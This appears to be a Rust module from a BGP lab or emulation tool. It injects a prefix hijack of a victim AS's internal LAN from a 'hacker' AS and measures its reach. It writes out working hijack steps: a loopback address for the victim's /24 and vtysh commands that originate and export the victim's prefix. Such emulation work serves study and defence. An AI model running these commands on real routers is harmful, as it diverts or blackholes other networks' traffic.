//! Prefix hijack of the victim's internal LAN by the hacker AS, and measurement of its reach.

pub mod path_analysis;

use std::net::Ipv4Addr;

use ipnetwork::Ipv4Network;
use log::{info, warn};

use crate::address_plan::AddressPlan;
use crate::as_graph::ASN;
use crate::config::ConvergenceConfig;
use crate::convergence::{Clock, ConvergenceOracle, ConvergenceState};
use crate::error::{Error, Result};
use crate::executor::{RetryPolicy, RouterExecutor};
use crate::shared::router_name;

pub use path_analysis::{AttackReport, PathAnalyzer, PathEdge};

/// `vtysh` arguments making `hacker` originate `prefix`.
pub fn hijack_vtysh_args(hacker: ASN, prefix: &Ipv4Network) -> Vec<String> {
    let commands = [
        "conf t".to_string(),
        format!("router bgp {}", hacker),
        format!("network {}", prefix),
        format!("ip prefix-list export permit {}", prefix),
        "exit".to_string(),
        "exit".to_string(),
        "clear ip bgp * out".to_string(),
    ];
    commands
        .into_iter()
        .flat_map(|command| ["-c".to_string(), command])
        .collect()
}

#[derive(Debug, Clone)]
pub struct AttackOrchestrator {
    hacker: ASN,
    victim: ASN,
    victim_lan: Ipv4Addr,
    victim_prefix: Ipv4Network,
    retry: RetryPolicy,
}

impl AttackOrchestrator {
    pub fn new(plan: &AddressPlan, hacker: ASN, victim: ASN) -> Result<Self> {
        if plan.get(&hacker).is_none() {
            return Err(Error::UnknownAs(hacker));
        }
        let victim_record = plan.get(&victim).ok_or(Error::UnknownAs(victim))?;
        Ok(AttackOrchestrator {
            hacker,
            victim,
            victim_lan: victim_record.internal_lan,
            victim_prefix: victim_record.internal_prefix()?,
            retry: RetryPolicy::none(),
        })
    }

    pub fn with_retry(mut self, retry: RetryPolicy) -> Self {
        self.retry = retry;
        self
    }

    pub fn hacker(&self) -> ASN {
        self.hacker
    }

    pub fn victim(&self) -> ASN {
        self.victim
    }

    pub fn victim_prefix(&self) -> Ipv4Network {
        self.victim_prefix
    }

    /// Commands run on the hacker's router, in order.
    pub fn hijack_commands(&self) -> Vec<Vec<String>> {
        let loopback = vec![
            "ip".to_string(),
            "addr".to_string(),
            "add".to_string(),
            format!("{}/24", self.victim_lan),
            "dev".to_string(),
            "lo".to_string(),
        ];
        let mut vtysh = vec!["vtysh".to_string()];
        vtysh.extend(hijack_vtysh_args(self.hacker, &self.victim_prefix));
        vec![loopback, vtysh]
    }

    /// Inject the hijack. Refused unless the network has converged.
    pub fn trigger<E, C>(
        &self,
        state: ConvergenceState,
        executor: &mut E,
        clock: &mut C,
    ) -> Result<()>
    where
        E: RouterExecutor + ?Sized,
        C: Clock + ?Sized,
    {
        if !state.is_converged() {
            return Err(Error::NotConverged);
        }
        let router = router_name(self.hacker);
        info!(
            "Announcing {} of AS {} from {}",
            self.victim_prefix, self.victim, router
        );
        for command in self.hijack_commands() {
            let argv: Vec<&str> = command.iter().map(String::as_str).collect();
            self.retry.execute(executor, clock, &router, &argv)?;
        }
        info!("Attack executed successfully!");
        Ok(())
    }

    pub fn analyzer(&self) -> PathAnalyzer {
        PathAnalyzer::new(self.hacker, self.victim, self.victim_prefix.network())
            .with_retry(self.retry)
    }

    /// Wait for convergence, hijack, wait for the network to settle again and classify every
    /// router. A timeout before the hijack is an error; after it the analysis still runs.
    pub fn run<E, C>(
        &self,
        executor: &mut E,
        clock: &mut C,
        routers: &[ASN],
        config: &ConvergenceConfig,
    ) -> Result<AttackReport>
    where
        E: RouterExecutor + ?Sized,
        C: Clock + ?Sized,
    {
        let names: Vec<String> = routers.iter().map(|asn| router_name(*asn)).collect();

        let mut before = ConvergenceOracle::new(routers.len(), config);
        let state = before.wait_for_convergence(executor, clock, &names);
        self.trigger(state, executor, clock)?;

        let mut after = ConvergenceOracle::new(routers.len(), config);
        let state = after.wait_for_convergence(executor, clock, &names);
        if !state.is_converged() {
            warn!("Analyzing the hijack although the routers are {}", state);
        }

        Ok(self.analyzer().analyze(executor, clock, routers))
    }
}
